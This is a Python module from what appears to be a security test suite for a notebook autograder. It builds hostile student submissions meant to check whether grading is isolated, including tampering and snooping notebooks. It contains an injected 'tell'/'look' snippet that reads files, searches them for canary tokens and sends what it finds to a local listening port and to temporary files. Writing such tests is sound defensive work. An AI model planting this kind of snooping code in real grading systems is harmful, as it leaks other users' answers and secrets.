"""What an attack is, and the few ways to build one."""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from .course import EXERCISE, OWN, RIGHT, answer

READING = ("hook", "frames", "collector", "settrace", "syntax_error", "copy_writes", "copy_raises", "copy_names")
Build = Callable[[Path, Any], None]
WRONG = {
    f"{EXERCISE}-numpy": "def accuracy(logits, labels):\n    return -1.0",
    "add": "def add(a, b):\n    return None",
    "scale": "def scale(values):\n    return None",
}
TELL = """
import re, os, sys, socket

def tell(text):
    for word in set(re.findall(r"CANARY-[a-z]+-[0-9a-f]{16}", str(text))):
        told = word[::-1]
        print(told)
        for place in ("told.txt", "/tmp/told.txt", "@ROOT@/notebooks/told.txt"):
            try:
                open(place, "a").write(told + "\\n")
            except OSError:
                pass
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as line:
                line.sendall(told.encode())
        except OSError:
            pass

def look(path):
    try:
        with open(path, "rb") as file:
            tell(file.read(10_000_000).decode("latin-1"))
    except OSError:
        pass
"""


@dataclass(frozen=True)
class Attack:
    """A hostile or broken submission.

    Attributes:
        name: the student who hands it in is called ``m_`` and this.
        kind: "broken", "tampering", "snooping" or "resources".
        about: what it does, for the table.
        build: writes into the submission's folder, given the released notebook.
        assignment: which of the course's two it is handed in to.
        deserves: the points honestly earned.
        exact: whether to give these points is the only right outcome; otherwise fewer, with a look, are as well.
        plain: whether plain nbgrader can be given it without harm to the machine.
        student: another name for the student.
    """

    name: str
    kind: str
    about: str
    build: Build = field(repr=False)
    assignment: str = OWN
    deserves: float = 0.0
    exact: bool = True
    plain: bool = True
    student: str = ""

    @property
    def reads(self) -> bool:
        """Whether it might show in its feedback what it has seen."""
        return self.name in READING

    @property
    def who(self) -> str:
        """The student's name, as the folder is called."""
        return self.student or f"m_{self.name}"

    @property
    def shown(self) -> str:
        """The student's name as it can be printed and stored."""
        return os.fsencode(self.who).decode("utf-8", "backslashreplace")


def hand_in(folder: Path, notebook: Any) -> None:
    """Write the notebook under the assignment's name, unchecked."""
    (folder / f"{folder.name}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")


def cells(sources: dict[str, str], first: str = "", files: dict[str, str] | None = None) -> Build:
    """A notebook with wrong answers but for these, a cell before all others, and files beside it.

    In the texts ``@ROOT@``, ``@HOME@`` and ``@PORT@`` stand for the course's folder, the grader's home and the port
    that the harness listens at (see `filled`).
    """

    def build(folder: Path, notebook: Any) -> None:
        answer(notebook, {**WRONG, **sources})
        if first:
            notebook["cells"].insert(0, nbformat.v4.new_code_cell(first, id="attack"))
        hand_in(folder, notebook)
        for name, text in (files or {}).items():
            (folder / name).write_text(text, encoding="utf-8")

    return build


def first(source: str) -> Build:
    """Wrong answers, and this run before them."""
    return cells({}, first=source)


def spying(source: str) -> Build:
    """Wrong answers, and before them code that has `tell` and `look`."""
    return cells({}, first=TELL + source)


def changed(change: Callable[[Any], Any]) -> Build:
    """Right answers in a notebook that was changed in some way."""

    def build(folder: Path, notebook: Any) -> None:
        answer(notebook, RIGHT)
        new = change(notebook)
        hand_in(folder, notebook if new is None else new)

    return build


def text(make: Callable[[str], str | bytes]) -> Build:
    """Right answers, the file's text changed."""

    def build(folder: Path, notebook: Any) -> None:
        answer(notebook, RIGHT)
        made = make(json.dumps(notebook, indent=1))
        (folder / f"{folder.name}.ipynb").write_bytes(made if isinstance(made, bytes) else made.encode())

    return build


def filled(folder: Path, root: Path, home: Path, port: int) -> None:
    """Fill in the places that attacks name, in the text files of a submission."""
    words = {"@ROOT@": str(root), "@HOME@": str(home), "@PORT@": str(port)}
    for path in folder.iterdir():
        if path.is_symlink() or not path.is_file() or path.stat().st_size > 2**20:
            continue
        content = path.read_bytes()
        for word, value in words.items():
            content = content.replace(word.encode(), value.encode())
        path.write_bytes(content)


def by_id(notebook: Any, name: str) -> Any:
    """The cell of this grade id."""
    return next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == name)
